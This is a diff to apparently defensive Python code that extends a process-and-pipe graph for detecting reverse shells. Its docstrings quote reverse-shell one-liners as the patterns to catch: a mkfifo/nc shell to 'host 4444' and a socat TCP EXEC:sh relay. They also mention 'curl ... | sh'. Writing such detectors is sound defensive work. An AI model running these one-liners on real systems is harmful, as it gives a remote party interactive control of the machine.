@@ -3,8 +3,9 @@
 `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f` gives a remote peer a shell
 without any socket on the shell's stdio: the shell reads what the network relay writes into a
 pipe or FIFO, and writes into a pipe the relay sends on. The graph keeps which processes read
-and write each pipe or FIFO (by its inode: fds 0-2 at exec, FIFOs opened by path), and which
-processes connected out. A shell is wired when a networked process feeds its stdin and its
+and write each pipe or FIFO (by its inode: fds 0-2 at exec, FIFOs opened by path, the ends of
+a child's stdio pipes its parent held at the child's exec), and which processes connected out
+or accepted a connection. A shell is wired when a networked process feeds its stdin and its
 stdout feeds a networked process, each within a few hops (a relay such as `cat` in between).
 `cmd | sh` is not: nothing networked reads what the shell writes, and `curl ... | sh` neither.
 """
@@ -54,6 +55,21 @@ class PipeGraph:
         """A FIFO end the process opened by path (it may keep it across an exec)."""
         self.add(pid, pipe, read=read)
         self._opened.setdefault(pid, set()).add((pipe, read))
+
+    def parent_ends(self, parent: int, *, feeds: PipeId | None, drains: PipeId | None,
+                    networked: bool) -> None:
+        """The other ends of a child's stdin pipe (`feeds`: the parent writes into it) and
+        stdout pipe (`drains`: it reads from it), which the kernel saw the parent hold at the
+        child's exec (ExecEvent.parent_feeds, parent_drains), and whether it held a network
+        socket then (parent_inet): a relay that made the pipes itself (socat TCP:host:port
+        EXEC:sh,pipes) is known by no record of its own to hold them, nor, when it connected
+        before it was one, to hold the connection."""
+        if feeds is not None:
+            self.add(parent, feeds, read=False)
+        if drains is not None:
+            self.add(parent, drains, read=True)
+        if networked:
+            self.networked.add(parent)
 
     def inherit(self, parent: int, child: int) -> None:
         """A forked child holds its parent's ends."""
